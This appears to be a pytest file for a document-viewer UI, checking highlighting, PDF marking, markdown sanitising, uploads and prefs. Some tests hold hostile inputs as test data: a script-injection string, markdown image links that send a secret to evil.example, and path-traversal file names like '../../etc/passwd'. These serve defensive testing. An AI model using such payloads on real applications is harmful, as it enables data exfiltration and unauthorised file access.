"""The UI's pure pieces: highlighted code, PDF pages with the passage marked, the window
treemap, safe answers, upload names and prefs."""

from __future__ import annotations

import io
import json

import pytest
from helpers import make_pdf
from PIL import Image

from app.services.viewing import original_file
from engine.types import EngineError
from ui import prefs as prefs_store
from ui.render import (
    code_excerpt_html,
    marked_text,
    pdf_page_png,
    safe_answer,
    safe_text,
    window_treemap,
)
from ui.uploads import check_local_path, safe_name, save_batch


def test_code_excerpt_marks_exactly_the_cited_lines_and_escapes():
    lines = [f"line {i}" for i in range(1, 31)] + ["<script>alert(1)</script>"]
    out = code_excerpt_html(lines, 10, 12, context=2)
    assert out.count("sl-cited") == 3
    for n in (8, 9, 10, 11, 12, 13, 14):
        assert f">{n}</span>" in out
    assert ">7</span>" not in out and ">15</span>" not in out
    cited = [chunk for chunk in out.split("<div") if "sl-cited" in chunk]
    assert [c.split("</span>")[1].split("</div>")[0] for c in cited] == [
        "line 10", "line 11", "line 12"]
    tail = code_excerpt_html(lines, 31, 31)
    assert "&lt;script&gt;" in tail and "<script>" not in tail


def test_pdf_page_drawn_with_the_passage_marked(tmp_path):
    pdf = make_pdf(tmp_path / "r.pdf", ["Intro text.", "The bridge inspection date is 14 March "
                                        "2031.", "Appendix."])
    before = pdf.read_bytes()
    plain, n0 = pdf_page_png(pdf, 2, "")
    marked, n1 = pdf_page_png(pdf, 2, "The bridge inspection date is 14 March 2031.")
    assert n0 == 0 and n1 >= 1
    a, b = Image.open(io.BytesIO(plain)), Image.open(io.BytesIO(marked))
    assert a.size == b.size and a.size[0] > 500
    assert a.tobytes() != b.tobytes()  # the mark is drawn on the page
    assert pdf.read_bytes() == before  # ... and never saved into the file
    with pytest.raises(ValueError, match="no page 9"):
        pdf_page_png(pdf, 9, "")


def test_marked_text_escapes_and_marks():
    out = marked_text("a <b> line\nthe code is 7291", "the code is 7291")
    assert "&lt;b&gt;" in out and "<mark>the code is 7291</mark>" in out


def test_no_image_can_form_in_answers_or_passages():
    """Inline, reference-style and nested-alt images would make the browser fetch a URL."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark")
    for text in ["See ![x](https://evil.example/?q=secret) and [a link](https://ok.example).",
                 "![a][r]\n\n[r]: https://evil.example/ref",
                 "![a [b] c](https://evil.example/q)"]:
        assert "<img" in md.render(text)  # the attack works on the raw text
        assert "<img" not in md.render(safe_answer(text))
    assert "[a link](https://ok.example)" in safe_answer("[a link](https://ok.example)")
    assert "<img" not in md.render(safe_text("<img src=https://evil.example>"))
    # a passage with blank lines stays one HTML block: markdown never parses its text
    passage = marked_text("x\n\n![x](https://evil.example/pixel)", "")
    assert "\n" not in passage and "<img" not in md.render(passage).replace("&lt;img", "")


def test_treemap_sizes_sources_in_folders_and_shows_the_free_window():
    fig = window_treemap([("src/a.py", 300), ("src/pkg/b.py", 200), ("README.md", 100)], 1000)
    tm = fig.data[0]
    values = dict(zip(tm.ids, tm.values, strict=True))
    assert values["corpus/src/a.py"] == 300 and values["corpus/src/pkg/b.py"] == 200
    assert values["free"] == 400
    assert dict(zip(tm.ids, tm.parents, strict=True))["corpus/src/pkg/b.py"] == "corpus/src/pkg"
    assert "60.0%" in fig.layout.title.text
    over = window_treemap([("a", 5000)], 1000)
    assert "free" not in over.data[0].ids and "500.0%" in over.layout.title.text


class _Up:
    def __init__(self, name: str, data: bytes):
        self.name, self.size, self._data = name, len(data), data

    def getvalue(self) -> bytes:
        return self._data


def test_uploads_keep_to_their_folder_and_respect_the_limit(scoutlens_home):
    assert safe_name("../../etc/passwd") == "passwd"
    assert safe_name("..\\..\\boot.ini") == "boot.ini"
    assert safe_name("...") == "upload"
    files = [_Up("../../x.py", b"print(1)\n"), _Up("x.py", b"print(2)\n"),
             _Up("big.pdf", b"0" * (2 * 2**20)), _Up("empty.txt", b"")]
    paths, refused = save_batch("docs", files, limit_mb=1)
    assert [p.name for p in paths] == ["x.py", "x-2.py"]
    assert all(p.is_relative_to(scoutlens_home / "uploads") for p in paths)
    from ui.uploads import corpus_folder

    assert len({corpus_folder(n) for n in ("team@x", "team_x", "docs.", "docs")}) == 4
    assert {r.name: r.reason.split()[-1] for r in refused} == {"big.pdf": "(Settings)",
                                                              "empty.txt": "file"}
    assert paths[1].read_bytes() == b"print(2)\n"


def test_original_file_never_leaves_the_input_folder(tmp_path):
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / "src" / "a.py").write_text("x")
    (tmp_path / "secret.txt").write_text("s")
    assert original_file(str(root), "src/a.py") == (root / "src" / "a.py").resolve()
    assert original_file(str(root), "repo/src/a.py") == (root / "src" / "a.py").resolve()
    assert original_file(str(root), "../secret.txt") is None
    assert original_file(str(tmp_path / "gone"), "a.py") is None


def test_prefs_saved_validated_and_damaged_file_ignored(scoutlens_home):
    assert prefs_store.load().backend == "embedded"
    with pytest.raises(EngineError, match="needs an endpoint"):
        prefs_store.save(prefs_store.Prefs("openai", "", "", 200))
    with pytest.raises(EngineError, match="upload limit"):
        prefs_store.save(prefs_store.Prefs("embedded", "", "", 0))
    saved = prefs_store.save(prefs_store.Prefs("openai", " http://127.0.0.1:9/v1 ", "m", 50))
    assert prefs_store.load() == saved and saved.endpoint == "http://127.0.0.1:9/v1"
    assert json.loads((scoutlens_home / "ui.json").read_text())["upload_mb"] == 50
    (scoutlens_home / "ui.json").write_text("{not json")
    assert prefs_store.load().backend == "embedded"


def test_local_path_errors_are_messages(tmp_path):
    from ingest.types import IngestError

    with pytest.raises(IngestError, match="path not found"):
        check_local_path(str(tmp_path / "nope"))
    with pytest.raises(IngestError, match="give the path"):
        check_local_path("  ")


def test_video_frame_at_a_cited_time_is_that_moment(tmp_path):
    import numpy as np
    from helpers import make_video, slide

    from ui.render import video_frame_png

    video = make_video(tmp_path / "talk.mp4", ["First slide", "Second slide here"],
                       seconds_each=4, fps=5)
    frame = np.asarray(Image.open(io.BytesIO(video_frame_png(video, 5.0))).convert("RGB"),
                       dtype=np.int16)
    first, second = (slide(t).astype(np.int16) for t in ["First slide", "Second slide here"])
    assert frame.shape == second.shape
    assert np.abs(frame - second).mean() < np.abs(frame - first).mean() / 2
    with pytest.raises(ValueError, match="no frame"):
        video_frame_png(video, 60.0)


def test_the_in_process_model_takes_one_caller_at_a_time_a_server_many():
    import threading
    import time as clock

    from fakes import ScriptedBackend

    from ui.shared_backend import Shared

    model = Shared(ScriptedBackend(concurrent=False), threading.Lock())  # one KV buffer
    waited, order = [], []

    def second() -> None:
        with model.turn(lambda: waited.append(True)):
            order.append("second")

    with model.turn():
        t = threading.Thread(target=second)
        t.start()
        clock.sleep(0.2)
        order.append("first done")
    t.join(5)
    assert order == ["first done", "second"] and waited == [True]

    server = Shared(ScriptedBackend(concurrent=True), threading.Lock())
    with server.turn(), server.turn(lambda: waited.append("server")) as b:
        assert b.concurrent  # a second caller got it while the first held it
    assert waited == [True]
